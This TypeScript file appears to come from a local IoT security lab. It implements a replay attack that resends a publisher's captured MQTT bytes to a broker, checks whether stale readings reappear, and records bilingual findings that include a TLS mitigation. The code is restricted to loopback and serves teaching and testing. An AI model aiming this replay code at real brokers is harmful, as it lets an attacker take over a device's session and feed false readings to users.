/**
 * Replay: send the publisher's recorded bytes (from the step's capture) to the broker again,
 * from a new connection. Plain MQTT carries no freshness: the broker takes the old CONNECT
 * (and the device's client id from the real device) and the subscriber displays old readings
 * as new. A TLS session cannot be replayed: the server's fresh random and ephemeral key make
 * the recorded Finished wrong (RFC 5246 §7.4.9), so the handshake fails.
 */
import { connect } from 'node:net';
import { type Evidence, type Finding, same } from '../core/findings.js';
import { analyzeCapture, captureConnections } from '../wire/analyze/index.js';
import { ALERT_NAMES } from '../wire/tls/index.js';
import { assertLoopback } from './loopback.js';
import type { Attack, AttackTarget } from './target.js';
import { logSince } from './mqtt-session.js';
import { waitFor } from './wait.js';

const ATTACK = 'replay';
/** A bounded replay: the CONNECT and the first readings are enough to show it. */
const MAX_REPLAY_BYTES = 16 * 1024;
const ALERT = 21;

export const replayAttack: Attack = {
  name: ATTACK,
  run: async (target) => {
    assertLoopback(target.broker.host);
    return [await replay(target)];
  },
};

async function replay(target: AttackTarget): Promise<Finding> {
  const pcap = target.capture();
  const analysis = analyzeCapture(pcap);
  const publisherConn = analysis.connections.find((c) =>
    c.mqtt?.connect
      ? c.mqtt.connect.clientId === target.publisherSettings.clientId
      : c.tls?.clientCertificate.certificate?.subjectCn === target.publisherSettings.clientId,
  );
  const base = {
    id: `${ATTACK}/session@${target.step}`,
    attack: ATTACK,
    step: target.step,
    stride: ['S', 'T'] as ['S', 'T'],
    title: { en: 'Replay of captured traffic', fr: 'Rejeu du trafic capturé' },
    attempted: {
      en: "Send the publisher's recorded bytes to the broker again from a new connection.",
      fr: 'Renvoyer au broker, depuis une nouvelle connexion, les octets enregistrés du publieur.',
    },
  };
  if (publisherConn === undefined) {
    return {
      ...base,
      outcome: 'not-applicable',
      result: {
        en: "The publisher's connection is not identifiable in the capture.",
        fr: 'La connexion du publieur n’est pas identifiable dans la capture.',
      },
      evidence: [],
    };
  }
  const stream = captureConnections(pcap)[publisherConn.index]!.clientToServer.bytes;
  const bytes = stream.subarray(0, Math.min(stream.length, MAX_REPLAY_BYTES));
  const state = target.subscriber.subscriber!.state;
  const before = state.readings.length;
  const lastSeq = state.last?.seq ?? 0;
  const logMark = target.broker.log().length;
  const consoleMark = target.subscriber.console.text().length;
  const answer = await send(target, bytes);
  const alerts = alertsIn(answer);
  // Replayed readings carry sequence numbers the subscriber has already displayed. After a
  // fatal alert nothing more can come; a short grace covers delivery in flight.
  if (!alerts.some((a) => a.startsWith('fatal'))) {
    await waitFor(1_500, () => state.readings.slice(before).some((r) => r.seq <= lastSeq));
  }
  await new Promise((r) => setTimeout(r, 300));
  const replayed = state.readings.slice(before).filter((r) => r.seq <= lastSeq);
  const evidence: Evidence[] = [
    {
      kind: 'capture',
      label: same(`${target.captureFile}: connection ${publisherConn.index}, client → server`),
      data: `${bytes.length} of ${stream.length} recorded bytes replayed; the server answered ${answer.length} bytes${alerts.length > 0 ? `, alert record(s): ${alerts.join(' ')}` : ''}`,
      file: target.captureFile,
    },
  ];
  const brokerLines = (await logSince(target.broker.log, logMark)).slice(0, 12);
  if (brokerLines.length > 0)
    evidence.push({
      kind: 'broker-log',
      label: { en: 'broker log', fr: 'journal du broker' },
      data: brokerLines.join('\n'),
    });
  if (replayed.length > 0) {
    const shown = target.subscriber.console
      .text()
      .slice(consoleMark)
      .split('\n')
      .filter((l) => /restarted|duplicate|out-of-order|Display/.test(l))
      .slice(0, 6);
    evidence.push({
      kind: 'device-console',
      label: { en: 'subscriber', fr: 'abonné' },
      data: shown.join('\n'),
    });
  }
  // The publisher lost its client id to the replay (session takeover); it reconnects on its own.
  await waitFor(10_000, () => target.publisher.link?.client !== undefined);
  if (replayed.length > 0) {
    return {
      ...base,
      outcome: 'succeeded',
      result: {
        en: `The broker accepted the replayed CONNECT as ${target.publisherSettings.clientId} and the subscriber displayed ${replayed.length} old readings again (#${replayed[0]!.seq}…).`,
        fr: `Le broker a accepté le CONNECT rejoué comme ${target.publisherSettings.clientId} et l’abonné a réaffiché ${replayed.length} anciennes mesures (n°${replayed[0]!.seq}…).`,
      },
      evidence,
      mitigation: {
        en: 'TLS: a recorded session cannot be replayed (fresh randoms and keys per handshake).',
        fr: 'TLS : une session enregistrée ne peut pas être rejouée (aléas et clés neufs à chaque poignée de main).',
      },
    };
  }
  return {
    ...base,
    outcome: 'blocked',
    result: {
      en: 'The replayed handshake did not complete; no replayed reading reached the subscriber.',
      fr: 'La poignée de main rejouée n’a pas abouti ; aucune mesure rejouée n’a atteint l’abonné.',
    },
    evidence,
  };
}

/** Write the bytes on a fresh connection, collect what the server answers for up to 1.5 s. */
function send(target: AttackTarget, bytes: Uint8Array): Promise<Uint8Array> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    const socket = connect({ host: target.broker.host, port: target.broker.port });
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(Buffer.concat(chunks));
    };
    const timer = setTimeout(done, 1_500);
    socket.on('data', (d: Buffer) => chunks.push(d));
    socket.once('connect', () => socket.write(bytes));
    socket.once('close', done);
    socket.once('error', done);
  });
}

/** Plaintext alert records at the start of a TLS byte stream, by name (RFC 5246 §7.2). */
function alertsIn(bytes: Uint8Array): string[] {
  const out: string[] = [];
  let o = 0;
  while (o + 5 <= bytes.length) {
    const type = bytes[o]!;
    const len = (bytes[o + 3]! << 8) | bytes[o + 4]!;
    if (type === ALERT && len === 2 && o + 7 <= bytes.length) {
      out.push(
        `${bytes[o + 5] === 2 ? 'fatal' : 'warning'} ${ALERT_NAMES.get(bytes[o + 6]!) ?? bytes[o + 6]}`,
      );
    }
    if (type < 20 || type > 24) break;
    o += 5 + len;
  }
  return out;
}
